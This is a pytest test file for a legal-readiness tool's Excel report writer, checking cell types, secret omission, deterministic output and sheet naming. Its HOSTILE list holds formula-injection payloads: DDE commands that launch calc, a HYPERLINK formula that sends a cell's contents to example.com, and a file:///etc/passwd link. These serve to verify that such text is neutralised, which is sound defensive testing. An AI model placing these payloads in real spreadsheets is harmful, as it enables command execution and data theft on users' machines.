"""The spreadsheet: texts as texts, dates as dates, amounts as numbers, each typed word once, the same bytes twice."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable, Iterable, Iterator
from dataclasses import replace
from datetime import datetime
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.cell.cell import Cell
from openpyxl.workbook import Workbook
from report_samples import MOMENT, blank_assessment, cell, fill, said, times_printed

from litready.domain.matter import Action, Assessment, Record
from litready.errors import ReportError
from litready.playbook.model import Playbook
from litready.report.model import Column, Report, Row, Run, Table, plain, words_of
from litready.report.sheets import Sheet, sheets_of
from litready.report.text import xml_text
from litready.report.xlsx import MOST_LETTERS, pieces, sheet_name, workbook_bytes, write_workbook
from litready.values import Money, PartialDate

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+SUM(A1:A9)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'quoted",
    "{=1+1}",
    '=HYPERLINK("http://example.com?x="&A1,"open")',
    "http://example.com/",
    "mailto:a@example.com",
    "internal:Sheet1!A1",
    "file:///etc/passwd",
    "00123",
    "1E5",
    "TRUE",
    "2026-11-25",
    "<r><t>not markup</t></r>",
    "<r></t></si><si><t>x</t></r>",
    "_x0041_ is no A",
    "<b>AT&T</b> ]]> &amp; &#x0;",
    "株式会社 🔒 Ελληνικά Русский Żółć 한국어",
)


def made(report: Report) -> Workbook:
    return openpyxl.load_workbook(io.BytesIO(workbook_bytes(report)))


def cells(book: Workbook) -> list[Cell]:
    return [c for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None]


def words(book: Workbook) -> str:
    return "\n".join(str(c.value) for c in cells(book))


def texts_of(sheets: Iterable[Sheet]) -> Iterator[str]:
    """Every text of the sheets in order, without dates and amounts."""
    for sheet in sheets:
        yield sheet.title
        for grid in sheet.grids:
            yield from (grid.title, words_of(grid.lead), *grid.heads)
            yield from (words_of(c) for row in grid.rows for c in row if not any(run.value is not None for run in c))


def everything(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        return "\n".join(packed.read(name).decode(errors="replace") for name in packed.namelist())


# -- what stands in it -----------------------------------------------------------------------------


def test_every_text_of_the_model_stands_in_its_order(
    shipped: Playbook, sample: Assessment, report_of: Callable[..., Report]
) -> None:
    report = report_of(sample, book=shipped, wide=True)
    found = words(made(report))
    at = 0
    for text in texts_of(sheets_of(report)):
        here = found.find(xml_text(text), at)
        assert here >= 0, text[:200]
        at = here


def test_each_typed_word_stands_once(shipped: Playbook, report_of: Callable[..., Report]) -> None:
    assessment, tokens = fill(shipped)
    found = words(made(report_of(assessment, book=shipped, wide=True, descriptions=True, recipient="L")))
    assert {t: n for t in tokens.made if (n := found.count(t)) != times_printed(assessment, t)} == {}


def test_the_narrow_and_the_wide_report_say_the_same_words(
    shipped: Playbook, sample: Assessment, report_of: Callable[..., Report]
) -> None:
    book = made(report_of(sample, book=shipped, wide=True))
    names = book.sheetnames
    for name in ("Cover", "Summary", "Actions", "Findings", "Open questions", "Authorities", "Timeline", "Answers"):
        assert name in names
    held = {r.register for r in sample.records}
    titles = {r.title[:31].rstrip() for r in shipped.registers if r.id in held}
    assert titles <= set(names)


def test_a_copy_of_facts_holds_no_word_that_is_no_fact(shipped: Playbook, report_of: Callable[..., Report]) -> None:
    assessment, tokens = fill(shipped)
    facts = report_of(assessment, book=shipped, facts_only=True, wide=True)
    content = workbook_bytes(facts)
    found = everything(content)
    model = "\n".join(texts_of(sheets_of(facts)))
    assert {t for t in tokens.made if t in found} == {t for t in tokens.made if t in model}
    assert 0 < sum(t in found for t in tokens.made) < len(tokens.made) / 2
    assert not {"Findings", "Actions", "Open questions", "Answers", "Authorities"} & set(made(facts).sheetnames)


def test_what_may_describe_a_secret_is_in_no_part_of_the_file(
    shipped: Playbook, report_of: Callable[..., Report]
) -> None:
    assessment, _ = fill(shipped, records=0)
    secret = Record("s1", "trade_secrets", {"description": cell("qqSECRETqq")}, "qqNOTEqq", MOMENT)
    report = report_of(assessment.with_record(secret), book=shipped, wide=True)
    found = everything(workbook_bytes(report))
    assert "qqSECRETqq" not in found
    assert "qqNOTEqq" not in found


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_is_a_formula_a_link_or_a_number(text: str, report_of: Callable[..., Report]) -> None:
    action = Action("a", text, text, None)
    record = Record("r", "custodians", {"name": cell(text), "holds": cell(text)}, text, MOMENT)
    assessment = replace(blank_assessment(name=text), actions=(action,), records=(record,))
    assessment = assessment.with_answer("hold.story", said(text, text))
    content = workbook_bytes(report_of(assessment, wide=True))
    with zipfile.ZipFile(io.BytesIO(content)) as packed:
        sheets = [packed.read(n).decode() for n in packed.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not [n for n in packed.namelist() if "externalLink" in n or n.startswith("xl/worksheets/_rels")]
    assert not any("<f>" in s or "<f " in s or "hyperlink" in s for s in sheets)
    book = openpyxl.load_workbook(io.BytesIO(content))
    same = [c for c in cells(book) if c.value == text]
    assert len(same) == 8
    assert {c.data_type for c in same} == {"s"}
    if text[0] in "=+-@'":
        assert all(c.quotePrefix for c in same)


def test_dates_amounts_and_numbers_are_values_and_partial_dates_texts(report_of: Callable[..., Report]) -> None:
    table = Table(
        (Column("What"), Column("Value")),
        tuple(
            Row((plain(str(n)), (Run(f"words {n}", value=value),)))
            for n, value in enumerate(
                (
                    PartialDate(2026, 3, 5),
                    PartialDate(2026, 3),
                    PartialDate(1899, 1, 1),
                    Money(Decimal("410000.50")),
                    Money(Decimal(1250), "EUR"),
                    Decimal("0.0825"),
                    Decimal("12345678901234567890"),
                    Money(Decimal("-7.5")),
                )
            )
        ),
        "Custodians",
        anchor="register.custodians",
    )
    report = report_of(blank_assessment(), wide=True)
    chapter = replace(report.chapters[0], anchor="section.x", blocks=(table,))
    book = made(replace(report, chapters=(chapter,)))
    found = [(c.value, c.number_format) for c in book["Custodians"]["B"] if c.value is not None][1:]
    assert found[0] == (datetime(2026, 3, 5), "mmm d, yyyy")  # noqa: DTZ001 (a day)
    assert [v for v, _ in found[1:3]] == ["words 1", "words 2"]
    assert found[3] == (410000.5, "[$$-409]#,##0.00")
    assert found[4][0] == 1250
    assert "EUR" in found[4][1]
    assert found[5] == (0.0825, "#,##0.0000")
    assert found[6][0] == "words 6"
    assert found[7] == (-7.5, "[$$-409]#,##0.00")


def test_due_days_and_answers_keep_their_values(report_of: Callable[..., Report]) -> None:
    action = Action("a", "Do it", "Dana", PartialDate(2026, 12, 1))
    partial = Action("b", "Do more", "Dana", PartialDate(2026, 12))
    assessment = replace(blank_assessment(), actions=(action, partial))
    assessment = assessment.with_answer("hold.cost", said(Money(Decimal(410000))))
    book = made(report_of(assessment, wide=True))
    due = [c.value for c in book["Actions"]["D"] if c.value is not None]
    assert due == ["Due", datetime(2026, 12, 1), "Dec 2026 (day not known)"]  # noqa: DTZ001 (a day)
    assert 410000 in [c.value for c in book["Answers"]["D"]]


def test_a_text_longer_than_a_cell_goes_on_in_the_next_rows(report_of: Callable[..., Report]) -> None:
    long = "".join(f"word {n} 🔒 " for n in range(20_000)) + "qqLASTqq"
    book = made(report_of(blank_assessment().with_answer("hold.story", said(long, long)), wide=True))
    found = [c.value for c in book["Answers"]["D"] if c.value and "word" in str(c.value)]
    assert len(found) > 5
    assert max(len(v.encode("utf-16-le")) // 2 for v in found) <= 32_767
    joined = "".join(v.removeprefix("[Goes on] ").removesuffix("\n[Goes on in the next row]") for v in found)
    assert joined == long
    assert words(book).count("qqLASTqq") == 2


def test_pieces_are_cut_where_they_fit() -> None:
    assert pieces("x" * MOST_LETTERS) == ["x" * MOST_LETTERS]
    assert len(pieces("🔒" * MOST_LETTERS)) == 2


def test_names_of_sheets_are_allowed_and_unlike() -> None:
    names: list[str] = []
    for title in ("A/B: [x]*?\\", "a b x", "'quoted'", "", "History", "x" * 60, "X" * 60, "🔒" * 40, "a\nb"):
        names.append(sheet_name(title, names))
    assert names[:5] == ["A B x", "a b x 2", "quoted", "Sheet", "History 1"]
    assert len({n.lower() for n in names}) == len(names)
    assert all(0 < len(n.encode("utf-16-le")) // 2 <= 31 for n in names)


def test_five_thousand_records_stand_whole(report_of: Callable[..., Report]) -> None:
    records = [Record(f"r{n}", "custodians", {"name": cell(f"qq{n}q")}) for n in range(5000)]
    book = made(report_of(replace(blank_assessment(), records=tuple(records)), wide=True))
    assert [c.value for c in book["Custodians"]["B"]][-5000:] == [f"qq{n}q" for n in range(5000)]
    assert book["Custodians"].freeze_panes is not None
    assert book["Custodians"].auto_filter.ref is not None


# -- the file --------------------------------------------------------------------------------------


def test_the_same_record_gives_the_same_bytes_and_names_nobody(
    shipped: Playbook, sample: Assessment, report_of: Callable[..., Report], monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("USER", "USERNAME", "LOGNAME"):
        monkeypatch.setenv(name, "loginname")
    report = report_of(sample, book=shipped, wide=True)
    content = workbook_bytes(report)
    assert content == workbook_bytes(report)
    about = openpyxl.load_workbook(io.BytesIO(content)).properties
    assert not about.creator
    assert not about.lastModifiedBy
    assert about.created == about.modified == datetime(2026, 11, 25, 12)  # noqa: DTZ001 (UTC is meant)
    assert "loginname" not in everything(content)


def test_a_refused_place_leaves_what_was_there(tmp_path: Path, report_of: Callable[..., Report]) -> None:
    folder = tmp_path / "r.xlsx"
    folder.mkdir()
    with pytest.raises(ReportError, match="folder"):
        write_workbook(report_of(blank_assessment(), wide=True), folder)
    assert [p.name for p in tmp_path.iterdir()] == ["r.xlsx"]
